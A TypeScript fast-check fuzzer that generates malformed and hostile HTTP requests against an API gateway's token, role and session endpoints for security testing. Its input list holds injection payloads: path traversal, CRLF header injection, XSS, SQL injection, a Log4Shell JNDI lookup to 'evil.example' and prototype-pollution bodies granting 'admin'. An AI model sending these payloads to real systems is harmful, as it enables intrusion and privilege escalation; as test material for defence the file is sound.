// Requests as nobody means them: half from the words the gateway knows, half from anywhere, so that they get past the first check.
import * as fc from 'fast-check';

export type FuzzedRequest = {
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  /** Which session's cookie goes with it, or what is done to it. */
  readonly cookie: 'none' | 'sandbox' | 'instance' | 'foreign' | 'tampered' | 'garbage';
  readonly body: string | Uint8Array<ArrayBuffer> | undefined;
};

const awkwardText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '',
    '..',
    '.',
    '%2e%2e',
    '%252e%252e%252f',
    '%00',
    '%0d%0aSet-Cookie:a=b',
    '\\',
    ';a=b',
    '__proto__',
    'constructor',
    '<script>alert(1)</script>',
    '\u202Egnp.exe',
    'a'.repeat(3000),
    "' OR 1=1 --",
    '${jndi:ldap://evil.example/a}',
    'https://evil.example/',
    '-1',
    '1e999',
    '9007199254740993',
    'NaN',
  ),
);

const key = fc.uuid({ version: 4 }).map((uuid) => `api-${uuid}`);
const anyKey = fc.oneof(key, fc.constantFrom('api-', 'sdk-1', 'Bearer x'), awkwardText);

const words = ['api', 'v2', 'tokens', 'reset', 'roles', 'members', 'me', 'auditlog', 'caller-identity'];
const moreWords = [
  'session',
  'test-key',
  'token-list',
  'sandbox',
  '_faults',
  'assets',
  'healthz',
  'index.html',
];

function path(ids: readonly string[]): fc.Arbitrary<string> {
  const id = fc.constantFrom(...ids);
  const known = fc.oneof(
    fc.constantFrom('/session', '/session/test-key', '/token-list', '/healthz', '/readyz', '/', '/tokens'),
    fc
      .constantFrom('tokens', 'roles', 'members', 'auditlog', 'caller-identity')
      .map((word) => `/api/v2/${word}`),
    id.map((known) => `/api/v2/tokens/${known}`),
    id.map((known) => `/api/v2/tokens/${known}/reset`),
    awkwardText.map((text) => `/api/v2/roles/${text}`),
  );
  // A key pasted into the address bar is what the log must not keep.
  const segment = fc.oneof(key, fc.constantFrom(...words, ...moreWords), id, awkwardText);
  const anywhere = fc.array(segment, { maxLength: 6 }).map((segments) => `/${segments.join('/')}`);
  const raw = fc.constantFrom('', '', '/sandbox');
  return fc
    .tuple(raw, fc.oneof({ weight: 3, arbitrary: known }, anywhere), query)
    .map(([before, target, after]) => `${before}${target}${after}`);
}

const parameter = fc.constantFrom(
  'limit',
  'offset',
  'filter',
  'sort',
  'showAll',
  'expiry',
  'before',
  'after',
  'q',
  'spec',
);
const query = fc
  .array(fc.tuple(parameter, fc.oneof(awkwardText, fc.integer().map(String))), { maxLength: 4 })
  .chain((pairs) =>
    fc.boolean().map((encoded) => {
      if (pairs.length === 0) return '';
      return `?${encoded ? new URLSearchParams(pairs).toString() : pairs.map((pair) => pair.join('=')).join('&')}`;
    }),
  );

const statement = fc.record(
  {
    effect: fc.oneof(fc.constantFrom('allow', 'deny'), awkwardText),
    resources: fc.array(
      fc.oneof(fc.constantFrom('proj/*', 'proj/*:env/*:flag/*', 'member/*:token/*'), awkwardText),
      { maxLength: 3 },
    ),
    notResources: fc.array(awkwardText, { maxLength: 2 }),
    actions: fc.array(fc.oneof(fc.constant('*'), awkwardText), { maxLength: 3 }),
    notActions: fc.array(awkwardText, { maxLength: 2 }),
  },
  { requiredKeys: [] },
);

const newToken = fc.record(
  {
    name: fc.oneof(fc.string(), fc.jsonValue()),
    description: fc.string(),
    role: fc.oneof(fc.constantFrom('reader', 'writer', 'admin'), awkwardText),
    customRoleIds: fc.array(awkwardText, { maxLength: 3 }),
    inlineRole: fc.array(statement, { maxLength: 3 }),
    serviceToken: fc.oneof(fc.boolean(), fc.jsonValue()),
    defaultApiVersion: fc.oneof(fc.integer(), fc.constantFrom(20240415, 20220603)),
  },
  { requiredKeys: [] },
);

const patch = fc.array(
  fc.record(
    {
      op: fc.constantFrom('add', 'replace', 'remove', 'test', 'move', 'copy', 'x'),
      path: fc.oneof(
        fc.constantFrom(
          '/name',
          '/description',
          '/role',
          '/inlineRole',
          '/inlineRole/0',
          '/expiry',
          '',
          '/__proto__/a',
        ),
        awkwardText.map((text) => `/${text}`),
      ),
      from: fc.constantFrom('/name', '/__proto__', ''),
      value: fc.oneof(fc.jsonValue(), fc.array(statement, { maxLength: 2 })),
    },
    { requiredKeys: ['op', 'path'] },
  ),
  { maxLength: 5 },
);

const credentials = fc.record(
  {
    instance: fc.oneof(fc.constantFrom('com', 'sandbox', 'eu'), awkwardText),
    key: anyKey,
    persona: fc.oneof(fc.constantFrom('admin', 'reader'), awkwardText),
  },
  { requiredKeys: [] },
);

const body: fc.Arbitrary<FuzzedRequest['body']> = fc.oneof(
  fc.constant(undefined),
  fc.oneof(newToken, patch, credentials, fc.jsonValue()).map((value) => JSON.stringify(value)),
  fc.tuple(newToken, fc.nat(200)).map(([value, end]) => JSON.stringify(value).slice(0, end)),
  fc.uint8Array({ maxLength: 300 }).map((bytes) => Uint8Array.from(bytes)),
  fc.constantFrom('['.repeat(20_000), '{"a":'.repeat(5000), '{"__proto__":{"role":"admin"}}', '\uFEFF{}'),
);

const header = fc.oneof(
  fc.tuple(
    fc.constantFrom(
      'Authorization',
      'Content-Type',
      'Origin',
      'Referer',
      'X-Forwarded-For',
      'X-Forwarded-Host',
      'X-Forwarded-Proto',
      'X-HTTP-Method-Override',
      'LD-API-Version',
      'If-None-Match',
      'Range',
      'Accept-Encoding',
    ),
    fc.oneof(
      anyKey,
      fc.constantFrom(
        'https',
        'beta',
        '20240415',
        'null',
        'DELETE',
        'bytes=0-1',
        'application/json',
        'text/plain',
      ),
    ),
  ),
  fc.tuple(fc.stringMatching(/^[A-Za-z-]{1,12}$/), awkwardText),
);

const ownPage = {
  'X-Access-Token-Console': '1',
  'Sec-Fetch-Site': 'same-origin',
  'Content-Type': 'application/json',
};

type Call = Pick<FuzzedRequest, 'method' | 'path' | 'body'>;

const json = (value: fc.Arbitrary<unknown>) => value.map((content) => JSON.stringify(content));

/** Calls as a client makes them, only that what they carry is off now and then. */
function plausibleCall(ids: readonly string[]): fc.Arbitrary<Call> {
  const id = fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...ids) }, awkwardText);
  const before = fc.constantFrom('', '', '', '/sandbox');
  const simple = fc.record({ name: fc.string(), role: fc.constantFrom('reader', 'writer', 'no_access') });
  const rename = fc.string().map((value) => [{ op: 'replace', path: '/name', value }]);
  const call = (method: string, path: fc.Arbitrary<string>, content: fc.Arbitrary<string | undefined>) =>
    fc.record({
      method: fc.constant(method),
      path: fc.tuple(before, path, query).map((parts) => parts.join('')),
      body: content,
    });
  const none = fc.constant(undefined);
  return fc.oneof(
    call(
      'GET',
      fc.constantFrom('/api/v2/tokens', '/api/v2/members', '/api/v2/auditlog', '/api/v2/roles'),
      none,
    ),
    call(
      'GET',
      id.map((one) => `/api/v2/tokens/${one}`),
      none,
    ),
    call('POST', fc.constant('/api/v2/tokens'), json(fc.oneof(simple, newToken))),
    call(
      'PATCH',
      id.map((one) => `/api/v2/tokens/${one}`),
      json(fc.oneof(rename, patch)),
    ),
    call(
      'POST',
      id.map((one) => `/api/v2/tokens/${one}/reset`),
      fc.oneof(none, json(fc.record({ expiry: fc.integer() }))),
    ),
    call(
      'DELETE',
      id.map((one) => `/api/v2/tokens/${one}`),
      none,
    ),
    call('POST', fc.constantFrom('/session', '/session/test-key'), json(credentials)),
  );
}

function wildCall(ids: readonly string[]): fc.Arbitrary<Call> {
  const method = fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom('GET', 'POST', 'PATCH', 'DELETE') },
    fc.constantFrom('PUT', 'HEAD', 'OPTIONS', 'QUERY', 'PROPFIND', 'get', 'M-SEARCH'),
  );
  return fc.record({ method, path: path(ids), body });
}

/** Requests to a gateway; `ids` are tokens that exist, so that what is behind the identifiers is reached too. */
export function fuzzedRequest(ids: readonly string[]): fc.Arbitrary<FuzzedRequest> {
  const headers = fc
    .tuple(fc.constantFrom(ownPage, ownPage, ownPage, {}), fc.array(header, { maxLength: 3 }))
    .map(([first, more]) => ({ ...first, ...Object.fromEntries(more) }));
  const proof = fc.oneof(
    { weight: 6, arbitrary: fc.constant('sandbox' as const) },
    fc.constantFrom('none', 'instance', 'foreign', 'tampered', 'garbage'),
  );
  return fc
    .tuple(fc.oneof(plausibleCall(ids), wildCall(ids)), headers, proof)
    .map(([call, sent, cookie]) => ({ ...call, headers: sent, cookie }));
}
